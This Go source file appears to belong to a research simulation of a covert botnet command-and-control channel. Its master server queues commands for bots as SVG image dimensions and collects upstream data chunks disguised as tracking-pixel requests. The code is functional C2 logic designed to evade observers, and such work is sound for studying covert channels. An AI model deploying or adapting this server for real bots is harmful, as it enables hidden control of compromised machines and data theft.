package cnc

import (
	"fmt"
	"net"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"
)

// command is one queued downstream message.
type command struct {
	id   int
	dims []Dim
}

// MasterServer is the attacker-side C&C endpoint. It serves the covert
// image channel over plain HTTP: to any observer it is a web server
// handing out small SVG graphics and receiving ordinary GET requests.
//
// Routes:
//
//	GET /meta/{bot}.svg          → dims encode (latest command id, image count)
//	GET /img/{bot}/{id}/{seq}.svg → image #seq of command id
//	GET /batch/{bot}/{id}/{from}/{count}.svg → sprite of count images from #from
//	GET /up/{bot}/{stream}/{seq}/{chunk} → upstream data chunk
//	GET /up/{bot}/{stream}/fin    → upstream stream complete
type MasterServer struct {
	// Delay is an artificial per-request service delay that ServeHTTP
	// applies, and only ServeHTTP: the real-socket throughput experiment
	// uses it to model a network RTT. The channel is RTT-bound, which is
	// why the paper's 100 KB/s figure requires "a client which sends
	// requests for multiple images simultaneously". Route, and the
	// in-simulation transports built on it, never sleep.
	Delay time.Duration

	mu       sync.Mutex
	nextID   int
	commands map[string][]command                 // bot → queued commands (ids ascending)
	uploads  map[string]map[string]map[int][]byte // bot → stream → seq → chunk
	finished map[string]map[string]bool           // bot → stream → fin received

	observer func(Exchange)
}

// Exchange describes one routed covert-channel request/response pair, as
// reported to the exchange observer: which bot spoke, the request path,
// and what went back. Unroutable paths carry an empty Bot.
type Exchange struct {
	Bot       string
	Path      string
	Status    int
	RespBytes int
}

// SetExchangeObserver installs a hook invoked after every Route dispatch.
// It exists for the record/replay subsystem: inside the simulation Route
// runs on the single-threaded event loop, so the observer sees exchanges
// in deterministic order. A server driven over real sockets (ServeHTTP)
// calls the observer concurrently — install one there only if it locks.
func (m *MasterServer) SetExchangeObserver(fn func(Exchange)) { m.observer = fn }

// NewMasterServer returns an empty C&C server.
func NewMasterServer() *MasterServer {
	return &MasterServer{
		nextID:   1,
		commands: make(map[string][]command),
		uploads:  make(map[string]map[string]map[int][]byte),
		finished: make(map[string]map[string]bool),
	}
}

var _ http.Handler = (*MasterServer)(nil)

// QueueCommand queues a downstream command for a bot and returns its id.
func (m *MasterServer) QueueCommand(bot string, payload []byte) int {
	m.mu.Lock()
	defer m.mu.Unlock()
	id := m.nextID
	m.nextID++
	m.commands[bot] = append(m.commands[bot], command{id: id, dims: EncodeDims(payload)})
	return id
}

// Upload returns the reassembled upstream payload of a finished stream:
// its chunks joined in ascending seq order.
func (m *MasterServer) Upload(bot, stream string) ([]byte, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !m.finished[bot][stream] {
		return nil, false
	}
	chunks := m.uploads[bot][stream]
	seqs := make([]int, 0, len(chunks))
	for seq := range chunks {
		seqs = append(seqs, seq)
	}
	sort.Ints(seqs)
	var out []byte
	for _, seq := range seqs {
		out = append(out, chunks[seq]...)
	}
	return out, true
}

// Streams lists finished upstream stream names for a bot, sorted.
func (m *MasterServer) Streams(bot string) []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	var out []string
	for s, fin := range m.finished[bot] {
		if fin {
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// Bots lists every bot that has ever uploaded or been queued a command.
func (m *MasterServer) Bots() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	seen := make(map[string]struct{})
	for b := range m.commands {
		seen[b] = struct{}{}
	}
	for b := range m.uploads {
		seen[b] = struct{}{}
	}
	out := make([]string, 0, len(seen))
	for b := range seen {
		out = append(out, b)
	}
	sort.Strings(out)
	return out
}

// Content types served by the channel. Error responses mirror what
// net/http's Error helper put on the wire historically, so the simulated
// responses stay byte-identical.
const (
	svgContentType   = "image/svg+xml"
	plainContentType = "text/plain; charset=utf-8"
)

// Route dispatches one covert-channel request path, appending the
// response body to dst (whose capacity is reused). It is the transport-
// independent core shared by ServeHTTP (real loopback sockets) and the
// in-simulation httpsim adapter, which no longer pays for net/http
// request/recorder scaffolding per covert image.
func (m *MasterServer) Route(path string, dst []byte) (status int, contentType string, body []byte) {
	var bot string
	status, contentType, body = m.route(path, dst, &bot)
	if m.observer != nil {
		m.observer(Exchange{Bot: bot, Path: path, Status: status, RespBytes: len(body)})
	}
	return status, contentType, body
}

// route is Route's dispatch, additionally reporting which bot the path
// addressed (empty for unroutable paths).
func (m *MasterServer) route(path string, dst []byte, bot *string) (status int, contentType string, body []byte) {
	p := strings.Trim(path, "/")
	var parts [5]string
	n := 0
	for n < len(parts) {
		i := strings.IndexByte(p, '/')
		if i < 0 {
			parts[n] = p
			p = ""
			n++
			break
		}
		parts[n] = p[:i]
		p = p[i+1:]
		n++
	}
	if p != "" { // more than five segments
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	switch {
	case n == 2 && parts[0] == "meta" && strings.HasSuffix(parts[1], ".svg"):
		*bot = strings.TrimSuffix(parts[1], ".svg")
		return m.serveMeta(dst, *bot)
	case n == 4 && parts[0] == "img" && strings.HasSuffix(parts[3], ".svg"):
		*bot = parts[1]
		return m.serveImage(dst, parts[1], parts[2], strings.TrimSuffix(parts[3], ".svg"))
	case n == 5 && parts[0] == "batch" && strings.HasSuffix(parts[4], ".svg"):
		*bot = parts[1]
		return m.serveBatch(dst, parts[1], parts[2], parts[3], strings.TrimSuffix(parts[4], ".svg"))
	case n == 4 && parts[0] == "up" && parts[3] == "fin":
		*bot = parts[1]
		return m.finishUpload(dst, parts[1], parts[2])
	case n == 5 && parts[0] == "up":
		*bot = parts[1]
		return m.acceptUpload(dst, parts[1], parts[2], parts[3], parts[4])
	default:
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
}

// svgBody renders a single channel SVG response.
func svgBody(dst []byte, d Dim) (int, string, []byte) {
	return http.StatusOK, svgContentType, AppendSVG(dst, d)
}

// errorBody renders an error the way http.Error spells it on the wire.
func errorBody(dst []byte, status int, msg string) (int, string, []byte) {
	dst = append(dst, msg...)
	return status, plainContentType, append(dst, '\n')
}

// lookup finds a queued command by id (ids are assigned ascending, so the
// per-bot queue is sorted and binary-searchable).
func (m *MasterServer) lookup(bot string, id int) (command, bool) {
	cmds := m.commands[bot]
	i := sort.Search(len(cmds), func(i int) bool { return cmds[i].id >= id })
	if i < len(cmds) && cmds[i].id == id {
		return cmds[i], true
	}
	return command{}, false
}

func (m *MasterServer) serveMeta(dst []byte, bot string) (int, string, []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	cmds := m.commands[bot]
	if len(cmds) == 0 {
		return svgBody(dst, Dim{}) // id 0 = nothing pending
	}
	latest := cmds[len(cmds)-1]
	return svgBody(dst, Dim{W: Clamp(latest.id), H: Clamp(len(latest.dims))})
}

func (m *MasterServer) serveImage(dst []byte, bot, idStr, seqStr string) (int, string, []byte) {
	id, err1 := strconv.Atoi(idStr)
	seq, err2 := strconv.Atoi(seqStr)
	if err1 != nil || err2 != nil {
		return errorBody(dst, http.StatusBadRequest, "bad ref")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	c, ok := m.lookup(bot, id)
	if !ok {
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	if seq < 0 || seq >= len(c.dims) {
		return errorBody(dst, http.StatusNotFound, "bad seq")
	}
	return svgBody(dst, c.dims[seq])
}

func (m *MasterServer) serveBatch(dst []byte, bot, idStr, fromStr, countStr string) (int, string, []byte) {
	id, err1 := strconv.Atoi(idStr)
	from, err2 := strconv.Atoi(fromStr)
	count, err3 := strconv.Atoi(countStr)
	if err1 != nil || err2 != nil || err3 != nil || count <= 0 {
		return errorBody(dst, http.StatusBadRequest, "bad ref")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	c, ok := m.lookup(bot, id)
	if !ok {
		return errorBody(dst, http.StatusNotFound, "404 page not found")
	}
	if from < 0 || from >= len(c.dims) {
		return errorBody(dst, http.StatusNotFound, "bad seq")
	}
	if count > len(c.dims)-from { // overflow-safe: both sides non-negative
		count = len(c.dims) - from
	}
	return http.StatusOK, svgContentType, AppendBatchSVG(dst, c.dims[from:from+count])
}

func (m *MasterServer) acceptUpload(dst []byte, bot, stream, seqStr, chunk string) (int, string, []byte) {
	seq, err := strconv.Atoi(seqStr)
	if err != nil || seq < 0 {
		return errorBody(dst, http.StatusBadRequest, "bad seq")
	}
	data, err := DecodeURLChunk(chunk)
	if err != nil {
		return errorBody(dst, http.StatusBadRequest, "bad chunk")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	// Chunks are keyed by seq, never indexed by it: memory grows with the
	// bytes received, not with the largest seq a request names.
	streams := m.uploads[bot]
	if streams == nil {
		streams = make(map[string]map[int][]byte)
		m.uploads[bot] = streams
	}
	if streams[stream] == nil {
		streams[stream] = make(map[int][]byte)
	}
	streams[stream][seq] = data
	// Responding with a 1x1 image keeps the exchange looking like
	// ordinary tracking-pixel traffic.
	return svgBody(dst, Dim{W: 1, H: 1})
}

func (m *MasterServer) finishUpload(dst []byte, bot, stream string) (int, string, []byte) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.finished[bot] == nil {
		m.finished[bot] = make(map[string]bool)
	}
	m.finished[bot][stream] = true
	return svgBody(dst, Dim{W: 1, H: 1})
}

// SetResponseHeaders applies the channel's response-header policy via
// set. It is the single source of truth shared by ServeHTTP (real
// sockets) and the in-simulation httpsim adapter, so the two transports
// cannot silently diverge on the wire.
func SetResponseHeaders(status int, contentType string, set func(key, value string)) {
	set("Content-Type", contentType)
	if status == http.StatusOK {
		// The images must never be cached: each poll must hit the master.
		set("Cache-Control", "no-store")
	} else {
		// Mirror what http.Error put on the wire historically.
		set("X-Content-Type-Options", "nosniff")
	}
}

// respBufPool recycles response-body scratch across concurrent requests.
var respBufPool = sync.Pool{New: func() any { b := make([]byte, 0, 512); return &b }}

// ServeHTTP implements the covert routes over net/http.
func (m *MasterServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if m.Delay > 0 {
		time.Sleep(m.Delay)
	}
	bufp := respBufPool.Get().(*[]byte)
	status, ctype, body := m.Route(r.URL.Path, (*bufp)[:0])
	h := w.Header()
	SetResponseHeaders(status, ctype, h.Set)
	w.WriteHeader(status)
	_, _ = w.Write(body)
	*bufp = body[:0]
	respBufPool.Put(bufp)
}

// Serve starts the master on a loopback listener and returns its base
// URL and a shutdown function.
func (m *MasterServer) Serve() (baseURL string, shutdown func() error, err error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, fmt.Errorf("cnc master listen: %w", err)
	}
	srv := &http.Server{Handler: m}
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = srv.Serve(ln)
	}()
	shutdown = func() error {
		err := srv.Close()
		<-done
		return err
	}
	return "http://" + ln.Addr().String(), shutdown, nil
}
